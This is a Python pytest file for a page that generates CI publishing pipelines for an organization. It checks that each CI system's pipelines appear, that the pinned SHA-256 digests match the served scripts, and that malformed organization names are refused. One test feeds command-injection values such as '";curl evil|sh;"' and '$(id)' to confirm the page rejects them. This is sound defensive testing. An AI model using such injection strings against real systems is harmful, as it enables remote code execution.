"""GET /about/publish: pipelines for the organization and the registry that are asked."""

import hashlib
import re
from html import unescape

import httpx
import pytest

from shared.domain.trusted_publishing.presets import CI_SYSTEMS, CiSystem
from tests.support.world import URL, World

pytestmark = pytest.mark.measured

PAGE = f"{URL}/about/publish"


async def opened(world: World, **query: str) -> str:
    answer = await world.send("GET", f"{PAGE}?{httpx.QueryParams(query)}")
    assert answer.status_code == 200, answer.text
    return unescape(answer.text)


@pytest.mark.parametrize("system", CI_SYSTEMS, ids=lambda system: system.key)
async def test_each_ci_system_has_its_pipelines_for_the_organization(
    world: World, system: CiSystem
) -> None:
    page = await opened(world, provider=system.key, org="octo")
    for each in system.pipelines:
        assert each.saved_as in page
    assert "--organization octo" in page
    assert "acme" not in page
    assert "ballroom.example.org" not in page
    assert system.key == "gitea" or '"org":"octo"' in page


@pytest.mark.parametrize("file", ["publish.py", "outdated.py"])
async def test_the_digests_are_those_of_the_files_that_are_served(world: World, file: str) -> None:
    served = (await world.send("GET", f"{URL}/{file}")).content
    page = await opened(world)
    pinned = set(re.findall(rf"([0-9a-f]{{64}})  {re.escape(file)}", page))
    assert pinned == {hashlib.sha256(served).hexdigest()}
    assert "SHA256_OF" not in page


async def test_an_unknown_ci_system_shows_the_first_one(world: World) -> None:
    assert ".github/workflows/release.yml" in await opened(world, provider="nobody")


@pytest.mark.parametrize("name", ["a b", '";curl evil|sh;"', "$(id)", "a\nb", "../x"])
async def test_a_name_that_is_no_organization_is_refused(world: World, name: str) -> None:
    """A link of a stranger must not put commands into a pipeline that somebody pastes."""
    answer = await world.send("GET", f"{PAGE}?{httpx.QueryParams({'org': name})}")
    assert answer.status_code == 400
